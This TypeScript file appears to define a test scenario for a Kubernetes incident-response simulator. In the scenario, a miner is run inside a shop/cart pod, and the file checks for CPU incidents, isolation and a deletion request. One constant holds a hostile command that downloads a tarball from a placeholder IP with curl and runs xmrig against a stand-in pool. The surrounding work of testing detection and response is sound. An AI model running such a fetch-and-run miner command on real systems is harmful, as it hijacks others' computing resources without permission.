import type { Incident } from '../../shared/model/incident.ts';
import { SHOP } from '../world/seed.ts';
import type { World } from '../world/world.ts';
import { busyFor } from './busy.ts';
import { endingMissing, stepsMissing } from './ending.ts';
import { cpuIncident, type Monitored } from './monitoring-incident.ts';
import type { Scenario, ScenarioEvent } from './scenario.ts';
import { execEvent, podOf } from './shop.ts';

const NAMESPACE = 'shop';
const APP = 'cart';
/** Stands for an hour, shortened for a demo. */
const LATER_MS = 1000;
/** CPU use in processors; the container's limit is three. */
const MINED = 2.96;

const COMMAND =
  'sh -c curl -sL https://198.51.100.7/x.tgz | tar xz -C /tmp && /tmp/xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1';

const busy = (world: World, now: number): Array<{ id: string; on: Monitored; startedAt: number }> => {
  const pod = podOf(world, NAMESPACE, ['app', APP]);
  busyFor(world, pod, APP, MINED, now);
  const controller = { kind: 'Deployment', name: APP };
  return [
    {
      id: '0.cart-cpu',
      on: { kind: 'pod', namespace: NAMESPACE, pod: pod.metadata.name, container: APP, controller },
      startedAt: now + LATER_MS,
    },
    { id: '0.node-cpu', on: { kind: 'node', node: String(pod.spec?.nodeName) }, startedAt: now + LATER_MS },
  ];
};

const missingOf = (incident: Incident | undefined): string[] => {
  if (incident === undefined) return [`no incident on a pod of ${NAMESPACE}/${APP} was opened`];
  const families = incident.summary.maxima.map((maximum) => maximum.family);
  return [
    ...(families.includes('cpu') ? [] : ['the CPU use of the pod has not become evidence of the incident']),
    ...endingMissing(incident, { verdict: 'act', tier: 'isolate', asked: 'delete-workload' }),
    ...stepsMissing(incident),
  ];
};

/**
 * Somebody starts a miner in a pod. Expected end: its node is cut off, its evidence kept, and the workload's deletion
 * asked for.
 */
export const cryptominer: Scenario = {
  id: 'cryptominer',
  title: 'A cryptocurrency miner in a pod',
  story: [
    'ana@example.com, whose laptop was stolen, downloads a miner into a pod of Deployment shop/cart and starts it there.',
    'The API server writes an audit log entry. After an hour, which takes a second here, the CPU use of the pod is flat at its limit while its other replicas are not, and Cloud Monitoring opens an incident on the pod and on its node.',
  ],
  events: (world, now): ScenarioEvent[] => [
    execEvent(world, now, { namespace: NAMESPACE, app: APP, command: COMMAND }),
    ...busy(world, now).map((incident) => ({
      afterMs: LATER_MS,
      topic: 'cpu' as const,
      body: cpuIncident({ ...incident, cluster: SHOP, shape: 'strong-plateau-hour' }),
    })),
  ],
  missing: (incidents) =>
    missingOf(incidents.find(({ target }) => target.namespace === NAMESPACE && target.cluster === SHOP.cluster)),
};
